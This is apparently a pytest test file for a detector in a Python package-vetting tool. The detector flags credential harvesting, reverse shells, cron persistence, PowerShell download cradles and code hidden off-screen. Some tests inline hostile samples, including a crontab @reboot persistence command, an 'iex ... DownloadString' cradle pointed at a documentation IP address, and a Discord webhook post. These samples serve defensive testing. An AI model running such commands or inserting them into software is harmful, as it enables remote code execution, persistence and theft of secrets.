"""The pattern detector: its YARA rule file, evidence, scopes, limits and failures."""

from __future__ import annotations

import ast
from typing import Any

import pytest
import yara
from hypothesis import given
from hypothesis import strategies as st

from depvet.detectors import patterns
from depvet.detectors.patterns import (
    MAX_CODE_BYTES,
    PatternDetector,
    compiled_rules,
    executable_format,
    long_encoded_line,
    off_screen_code,
    redact,
)
from depvet.errors import DetectorError
from depvet.files import FileRole, FileView
from depvet.model import Finding, RuleKind, Scope, Severity
from tests.detectors import fixtures_patterns as fx

DETECTOR = PatternDetector()
WHERE = {"python", "code", "any"}


def _scan(file: FileView) -> list[Finding]:
    return list(DETECTOR.scan(file)) if DETECTOR.wants(file) else []


def _by_rule(file: FileView) -> dict[str, Finding]:
    return {f.rule: f for f in _scan(file)}


# --- the rule file -----------------------------------------------------------------------------


def test_yara_rules_compile_without_warnings_once() -> None:
    assert compiled_rules() is compiled_rules()  # compiled once per process


def test_every_yara_rule_reports_a_known_rule_with_complete_meta() -> None:
    ids = {r.id for r in DETECTOR.rules}
    reported = set()
    for yara_rule in compiled_rules():
        meta = yara_rule.meta
        assert meta["depvet_rule"] in ids, yara_rule.identifier
        assert meta["label"], yara_rule.identifier
        assert meta["where"] in WHERE, yara_rule.identifier
        reported.add(meta["depvet_rule"])
    decided_in_python = {
        "credential-harvest-many-stores",
        "binary-disguised-as-source",
        "windows-executable-shipped",
        "long-encoded-line",
        "off-screen-code",
        "setup-obfuscated",
    }
    assert reported | decided_in_python == ids
    assert not reported & decided_in_python


def test_credential_families_feed_the_harvest_rule() -> None:
    families = {
        r.meta["family"]
        for r in compiled_rules()
        if "family" in r.meta and r.meta["depvet_rule"] != "credential-store-path"
    }
    assert {"browser", "discord", "crypto-wallet", "telegram"} <= families


# --- what is reported, where and how -----------------------------------------------------------


def test_single_credential_store_is_a_capability_many_are_a_threat() -> None:
    one = _by_rule(fx.python(fx.BOTOCORE_LIKE, "botocore/credentials.py"))
    assert set(one) == {"credential-store-path"}
    assert one["credential-store-path"].kind is RuleKind.CAPABILITY

    many = _by_rule(fx.python(fx.HARVESTER))
    harvest = many["credential-harvest-many-stores"]
    assert harvest.kind is RuleKind.THREAT and harvest.severity is Severity.HIGH
    for family in ("ssh", "aws", "kubernetes", "gcp", "docker", "system-passwords"):
        assert family in harvest.message


def test_game_launcher_tokens_are_a_credential_family() -> None:
    finding = _by_rule(fx.python(fx.GAME_LAUNCHER_ACCOUNTS))["credential-store-path"]
    assert "Minecraft launcher account tokens" in finding.message
    assert finding.line == 4  # the Lunar Client path, the first of the two


def test_line_and_evidence_point_at_the_match() -> None:
    finding = _by_rule(fx.python(fx.CRONTAB))["persistence-cron"]
    assert finding.line == 2
    assert "crontab -l" in finding.evidence
    assert finding.path == "pkg/module.py"


def test_evidence_is_bounded_and_printable() -> None:
    text = "x = 1\n" + "A" * 5000 + " /etc/shadow " + "\x00\x01" * 3000 + "\n"
    finding = _by_rule(fx.python(text))["credential-store-path"]
    assert "/etc/shadow" in finding.evidence
    assert len(finding.evidence) <= 200
    assert finding.evidence.isprintable()
    assert finding.line == 2


@pytest.mark.parametrize(
    ("role", "scope"),
    [
        (FileRole.SETUP, Scope.INSTALL),
        (FileRole.PTH, Scope.STARTUP),
        (FileRole.CUSTOMIZE, Scope.STARTUP),
        (FileRole.PYTHON, Scope.FILE),
    ],
)
def test_scope_follows_the_role(role: FileRole, scope: Scope) -> None:
    file = FileView(path="x.py", role=role, data=fx.DEV_TCP.encode())
    assert _by_rule(file)["reverse-shell-pattern"].scope is scope


def test_webhook_and_bot_secrets_are_redacted() -> None:
    for text in (fx.WEBHOOK_POST, fx.TELEGRAM_POST):
        finding = _by_rule(fx.python(text))["exfil-webhook-hardcoded"]
        assert "<redacted>" in finding.evidence
        assert "FIXTUREFIXTURE" not in finding.evidence


def test_redact_discord_tokens() -> None:
    token = "A" * 24 + "." + "B" * 6 + "." + "C" * 27
    assert redact(f"token = '{token}'") == "token = 'AAAA<redacted>'"
    assert "mfa.AAAA<redacted>" in redact("mfa." + "A" * 84)


def test_hardcoded_webhook_is_not_also_reported_as_an_api_mention() -> None:
    found = _by_rule(fx.python(fx.WEBHOOK_POST))
    assert "exfil-webhook-hardcoded" in found
    assert "exfil-chat-api" not in found


def test_code_only_patterns_are_not_matched_in_text_files() -> None:
    assert _scan(fx.other(fx.HARVESTER, "docs/paths.txt")) == []
    assert "download-pipe-to-shell" not in _by_rule(fx.other(fx.CURL_SH, "ci/setup.sh"))
    assert "reverse-shell-pattern" in _by_rule(fx.other(fx.DEV_TCP, "ci/setup.sh"))


# --- which files, and limits -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "role", "wanted"),
    [
        ("pkg/a.py", FileRole.PYTHON, True),
        ("setup.py", FileRole.SETUP, True),
        ("x.pth", FileRole.PTH, True),
        ("pkg/conf.json", FileRole.OTHER, True),
        ("scripts/run.PS1", FileRole.OTHER, True),
        ("README.md", FileRole.OTHER, True),  # only checked for a binary header
        ("pkg/tool.exe", FileRole.OTHER, True),
        ("pkg/_ext.so", FileRole.OTHER, False),
        ("pkg/image.png", FileRole.OTHER, False),
        ("pkg-1.0.dist-info/RECORD", FileRole.OTHER, False),
    ],
)
def test_wants(path: str, role: FileRole, wanted: bool) -> None:
    assert DETECTOR.wants(FileView(path=path, role=role, data=b"")) is wanted


def test_markdown_is_only_checked_for_binaries() -> None:
    assert _scan(fx.other(fx.CURL_SH + fx.AI_NOTE, "README.md")) == []


def test_oversized_files_get_only_the_binary_check() -> None:
    big = fx.CRONTAB.encode() + b"#" * MAX_CODE_BYTES
    assert _scan(FileView(path="pkg/big.py", role=FileRole.PYTHON, data=big)) == []
    disguised = fx.pe_bytes() + b"\0" * MAX_CODE_BYTES
    found = _by_rule(FileView(path="pkg/big.py", role=FileRole.PYTHON, data=disguised))
    assert set(found) == {"binary-disguised-as-source"}


def test_binary_evidence_is_a_hex_header_not_raw_bytes() -> None:
    finding = _by_rule(fx.other(fx.pe_bytes(), "pkg/tool.exe"))["windows-executable-shipped"]
    assert finding.evidence.startswith("PE header: 4d 5a")
    assert finding.line is None


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (fx.pe_bytes(), "PE"),
        (fx.ELF_BYTES, "ELF"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 28, "Mach-O"),
        (b"MZ" + b"\0" * 100, None),  # no PE signature at e_lfanew
        (b"MZ", None),
        (b"MZ header of a tutorial\n", None),
        (b"", None),
    ],
)
def test_executable_format(data: bytes, expected: str | None) -> None:
    assert executable_format(data) == expected


# --- failures ----------------------------------------------------------------------------------


class _FailingRules:
    def __init__(self, error: Exception) -> None:
        self.error = error

    def match(self, **_: Any) -> list[Any]:
        raise self.error


@pytest.mark.parametrize("error", [yara.TimeoutError("slow"), yara.Error("too many matches")])
def test_yara_failures_become_detector_errors(
    monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    monkeypatch.setattr(patterns, "compiled_rules", lambda: _FailingRules(error))
    with pytest.raises(DetectorError):
        list(DETECTOR.scan(fx.python(fx.CRONTAB)))


# --- the long-line check agrees with the obvious implementation --------------------------------


def _naive_long_line(data: bytes, min_length: int) -> tuple[int, int] | None:
    start = 0
    for line in data.split(b"\n"):
        end = start + len(line)
        if len(line) >= min_length:
            other = len(line.translate(None, patterns._ENCODED_ALPHABET))
            if other * 20 <= len(line):
                return start, end
        start = end + 1
    return None


@given(
    data=st.lists(st.sampled_from([b"A", b"b", b"9", b"\n", b" ", b"+"]), max_size=400).map(
        b"".join
    ),
    min_length=st.integers(min_value=2, max_value=60),
)
def test_long_encoded_line_matches_naive_scan(data: bytes, min_length: int) -> None:
    assert long_encoded_line(data, min_length) == _naive_long_line(data, min_length)


def test_obfuscated_install_code_is_reported_once_with_its_scope() -> None:
    from tests.detectors.fixtures_patterns import HYPERION_SHAPE

    for role, path, scope in (
        (FileRole.SETUP, "pkg-1.0/setup.py", Scope.INSTALL),
        (FileRole.PTH, "pkg_init.pth", Scope.STARTUP),
    ):
        found = list(DETECTOR.scan(FileView(path=path, role=role, data=HYPERION_SHAPE.encode())))
        [hidden] = [f for f in found if f.rule == "setup-obfuscated"]
        assert hidden.scope is scope and "obfuscator-malware-kit" in hidden.message


def test_the_ruleset_version_follows_the_detectors_files(monkeypatch: pytest.MonkeyPatch) -> None:
    from depvet.detectors import registry

    assert len(registry.detectors_digest()) == 64
    before = registry.ruleset_version()
    registry.ruleset_version.cache_clear()
    monkeypatch.setattr(registry, "detectors_digest", lambda: "changed")
    try:
        after = registry.ruleset_version()
    finally:
        registry.ruleset_version.cache_clear()
    assert after != before


# --- download templates --------------------------------------------------------------------------


def test_a_cradle_after_a_templated_download_is_reported_where_its_address_is() -> None:
    finding = _by_rule(fx.python(fx.PS_TEMPLATE_THEN_CRADLE))["windows-download-cradle"]
    text = fx.PS_TEMPLATE_THEN_CRADLE
    assert finding.line == text.count("\n", 0, text.index("IEX")) + 1
    assert "http://" in finding.evidence


def test_every_templated_download_line_is_passed_over_however_many() -> None:
    templates = fx.BITS_TEMPLATE * 12
    assert "windows-download-cradle" not in _by_rule(fx.python(templates))
    text = templates + fx.WEBCLIENT
    finding = _by_rule(fx.python(text))["windows-download-cradle"]
    assert finding.line == text.count("\n", 0, text.index("IEX")) + 1


@pytest.mark.parametrize(
    "line",
    [
        '\'(New-Object Net.WebClient).DownloadFile("%(url)s", "%(target)s")\'',
        "f\"$s=$wc.DownloadString('{presigned_url}')\"",
        "\"iex ((New-Object System.Net.Webclient).DownloadString('${SCRIPT}'))\"",
    ],
)
def test_a_templated_download_that_also_names_an_address_is_a_cradle(line: str) -> None:
    text = f"import os\nos.system({line[:-1]} # http://203.0.113.9/a.ps1{line[-1]})\n"
    assert "windows-download-cradle" in _by_rule(fx.python(text))
    without_address = f"import os\nos.system({line})\n"
    assert "windows-download-cradle" not in _by_rule(fx.python(without_address))


# --- prose: docstrings and strings left as comments -------------------------------------------

_CRON_PROSE = '"""Refuses paths such as ``../../etc/cron.d/x`` (see the patch format)."""\n'
_CRON_CODE = "import os\nos.system(\"(crontab -l; echo '@reboot /tmp/x') | crontab -\")\n"


def test_a_pattern_named_only_in_a_docstring_or_a_bare_string_is_not_reported() -> None:
    text = _CRON_PROSE + "\n\ndef apply(patch):\n    'Writes nowhere near /etc/crontab.'\n"
    assert "persistence-cron" not in _by_rule(fx.python(text))


def test_a_pattern_in_code_after_a_docstring_naming_it_is_reported_where_the_code_is() -> None:
    finding = _by_rule(fx.python(_CRON_PROSE + _CRON_CODE))["persistence-cron"]
    assert finding.line == 3


def test_a_module_that_reads_its_docstring_keeps_the_docstring_matches() -> None:
    text = _CRON_PROSE + "import os\nos.system(__doc__)\n"
    assert "persistence-cron" in _by_rule(fx.python(text))


def test_a_string_that_is_a_value_is_not_prose() -> None:
    text = 'CRON = "/etc/cron.d/x"\nprint("""\n/etc/crontab\n""")\n'
    assert "persistence-cron" in _by_rule(fx.python(text))


@pytest.mark.parametrize(
    "data",
    [
        '# -*- coding: latin-1 -*-\n"""caf\xe9 /etc/cron.d/x"""\n'.encode("latin-1"),
        b"\xef\xbb\xbf" + _CRON_PROSE.encode(),
        _CRON_PROSE.replace("\n", "\r").encode(),
    ],
    ids=["latin-1", "byte-order-mark", "carriage-returns"],
)
def test_prose_is_not_located_where_offsets_would_be_wrong(data: bytes) -> None:
    assert patterns.prose_ranges(data) == []


_EVERY_BLOCK = b'''"""module"""
import os
class C:
    """class"""
    def m(self):
        "method"
        if os.sep:
            "if"
        elif os.name:
            "elif"
        else:
            "else"
        for x in []:
            "for"
        else:
            "for-else"
        while False:
            "while"
        with open(x) as f:
            "with"
        try:
            "try"
        except OSError:
            "except"
        else:
            "try-else"
        finally:
            "finally"
        match x:
            case 1:
                "case"
        async def inner():
            "async"
            async with x:
                "async-with"
            async for y in x:
                "async-for"
        return lambda: "not a statement"
x = ["not a statement", f"{1}"]
b"bytes are no prose"
'''


def test_prose_ranges_are_every_string_statement_in_every_block() -> None:
    tree = ast.parse(_EVERY_BLOCK)
    lines = _EVERY_BLOCK.splitlines(keepends=True)
    starts = [sum(len(line) for line in lines[:n]) for n in range(len(lines))]
    expected = sorted(
        (starts[n.lineno - 1] + n.col_offset, starts[n.end_lineno - 1] + n.end_col_offset)
        for n in ast.walk(tree)
        if isinstance(n, ast.Expr)
        and isinstance(n.value, ast.Constant)
        and isinstance(n.value.value, str)
        and n.end_lineno is not None
        and n.end_col_offset is not None
    )
    assert len(expected) == 18
    assert patterns.prose_ranges(_EVERY_BLOCK) == expected


def test_prose_ranges_are_byte_offsets() -> None:
    data = 'x = "é"\n"""doc /etc/cron.d/x"""\n'.encode()
    ((start, end),) = patterns.prose_ranges(data)
    assert data[start:end] == b'"""doc /etc/cron.d/x"""'


def test_off_screen_code_points_at_the_hidden_statement() -> None:
    # A form feed is no line end to Python: the hidden statement is on line 3.
    source = b"import os\n\x0cx = 1\ny = 2" + b" " * 160 + b";os.system('id')\n"
    assert off_screen_code(source) == (3, 165, ";os.system('id')")
    # Declared in Latin-1: columns count characters, and the string is still told apart.
    latin = b"# -*- coding: latin-1 -*-\nS = '\xe9" + b" " * 160 + b"x'" + b" " * 160 + b";f()\n"
    assert off_screen_code(latin) == (2, 328, ";f()")
    # Python 2 (does not parse): where strings are is unknown, so nothing is claimed.
    assert off_screen_code(b"print 'x'" + b" " * 160 + b";f()\n") is None


def test_off_screen_code_evidence_keeps_secrets_out() -> None:
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "S3cr" + "x" * 60
    source = f"import requests{' ' * 160};requests.post('{hook}', json={{}})\n"
    view = FileView(path="pkg/__init__.py", role=FileRole.PYTHON, data=source.encode())
    (found,) = [f for f in DETECTOR.scan(view) if f.rule == "off-screen-code"]
    assert found.evidence.startswith(";requests.post(")
    assert "<redacted>" in found.evidence and "x" * 20 not in found.evidence
